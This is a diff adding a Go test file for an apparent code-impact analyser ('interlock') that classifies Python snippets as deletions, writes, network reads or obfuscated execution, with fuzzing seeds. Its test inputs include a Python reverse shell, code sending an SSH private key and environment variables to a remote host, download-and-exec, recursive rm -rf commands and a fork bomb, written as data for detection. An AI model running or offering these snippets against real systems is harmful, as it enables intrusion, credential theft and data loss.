@@ -1,0 +1,82 @@
+package impact_test
+
+import (
+	"strings"
+	"testing"
+
+	"interlock"
+)
+
+func TestPython(t *testing.T) {
+	python := func(text string) interlock.Action { return source(interlock.KindPython, text) }
+	checkReadings(t, []reading{
+		{"calm", python("def f(x):\n    return x + 1\nprint(f(2))"), []string{"execute workspace reversible +inline"}},
+		{"names in strings and comments", python("# os.remove('/etc/passwd')\nx = \"os.remove('/etc/passwd')\"\n'''os.system('rm -rf /')'''"), []string{
+			"execute workspace reversible +inline"}},
+		{"remove", python("import os\nos.remove('/etc/hostname')"), []string{"delete system irreversible /etc/hostname"}},
+		{"alias", python("from os import unlink as u\nu('a.txt')"), []string{"delete workspace irreversible /home/dev/project/a.txt"}},
+		{"constant", python("import shutil as s\nd = '/srv' + '/x'\ns.rmtree(d)"), []string{"delete system irreversible /srv/x +recursive"}},
+		{"joined path", python("import os\nos.remove(os.path.join('build', 'a.o'))"), []string{"delete workspace irreversible /home/dev/project/build/a.o"}},
+		{"path object", python("from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')"), []string{
+			"write home reversible /home/dev/.bashrc +startup", "persist home reversible /home/dev/.bashrc +startup"}},
+		{"loop over constants", python("import os\nfor p in ['a', 'b']:\n    os.remove(p)"), []string{
+			"delete workspace irreversible /home/dev/project/a", "delete workspace irreversible /home/dev/project/b"}},
+		{"parameter", python("import os\ndef gone(p):\n    os.remove(p)\ngone('a')"), []string{"delete workspace irreversible /home/dev/project/a"}},
+		{"unknown path", python("import os, sys\nos.remove(sys.argv[1])"), []string{"delete workspace window +dynamic"}},
+		{"open for writing", python("with open('out.txt', 'w') as f:\n    f.write('x')"), []string{"write workspace reversible /home/dev/project/out.txt +overwrite"}},
+		{"open for reading", python("print(open('in.txt').read())"), []string{"read workspace readonly /home/dev/project/in.txt"}},
+		{"compile of a pattern", python("import re\nre.compile('x')"), []string{"execute workspace reversible +inline"}},
+		{"request", python("import requests\nrequests.get('https://example.com/')"), []string{"read external readonly https://example.com/"}},
+		{"import by name", python("__import__('os').remove('a')"), []string{"delete workspace irreversible /home/dev/project/a"}},
+		{"getattr", python("import os\ngetattr(os, 'remove')('a')"), []string{"delete workspace irreversible /home/dev/project/a"}},
+		{"decoded", python("import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnJlbW92ZSgnYScp'))"), []string{
+			"delete workspace irreversible /home/dev/project/a +decoded +obfuscated"}},
+		{"computed code", python("exec(input())"), []string{"execute workspace window +dynamic"}},
+		{"fork bomb", python("import os\nwhile True:\n    os.fork()"), []string{"spawn system irreversible +bomb"}},
+	})
+}
+
+// TestPythonRunsShell shows that commands are read as shell, as text, as a list, and with a computed part.
+func TestPythonRunsShell(t *testing.T) {
+	for _, text := range []string{
+		"import os\nos.system('rm -rf /srv/x')",
+		"import subprocess\nsubprocess.run(['rm', '-rf', '/srv/x'], check=True)",
+		"from subprocess import *\ncall('rm -rf /srv/x', shell=True)",
+		"import os\nn = 3\nos.system(f'echo {n}; rm -rf /srv/x')",
+		"print(f\"{__import__('os').system('rm -rf /srv/x')}\")",
+	} {
+		got := analyse(t, source(interlock.KindPython, text))
+		if !anyImpact(got, func(i interlock.Impact) bool {
+			return i.Kind == interlock.ImpactDelete && i.Target == "/srv/x" && i.Has("recursive")
+		}) {
+			t.Errorf("%s: %+v", text, got)
+		}
+	}
+}
+
+func TestPythonFlows(t *testing.T) {
+	for _, test := range []struct{ trait, text string }{
+		{"reverse-shell", "import socket,subprocess,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])"},
+		{"secret-send", "import requests\nk=open('/home/dev/.ssh/id_rsa').read()\nrequests.post('https://example.com/', data=k)"},
+		{"secret-send", "import os, requests\nrequests.post('https://example.com/', json=dict(os.environ))"},
+		{"download-run", "import requests\nexec(requests.get('https://example.com/x.py').text)"},
+	} {
+		got := analyse(t, source(interlock.KindPython, test.text))
+		if !anyImpact(got, func(i interlock.Impact) bool { return i.Has(test.trait) }) {
+			t.Errorf("%s not found in %q: %+v", test.trait, test.text, got)
+		}
+	}
+}
+
+// programSeeds are beginnings for both languages' fuzzing.
+var programSeeds = []string{"", "x", "'", "'''", `f"{`, "f'{os.system(\"x\")}'", "open(", "os.remove('a'", "a.b.c.d(", "for x in [", "import os as", "from . import *",
+	"def f(a=", "exec('exec(\"x\")')", "`${`", "`${eval('1')}`", "/[/", "const {a:b} = require('fs')", "import {x as y} from 'z'", "\\", "\x00", "x=x=x=x", "((((", "f(f(f(f(f(1)))))",
+	strings.Repeat("(", 100), strings.Repeat("a=b\nb=a\n", 50), strings.Repeat("'a'+", 300)}
+
+func FuzzPython(f *testing.F) {
+	know := knowledge(f)
+	for _, seed := range programSeeds {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) { holds(t, know, source(interlock.KindPython, text)) })
+}
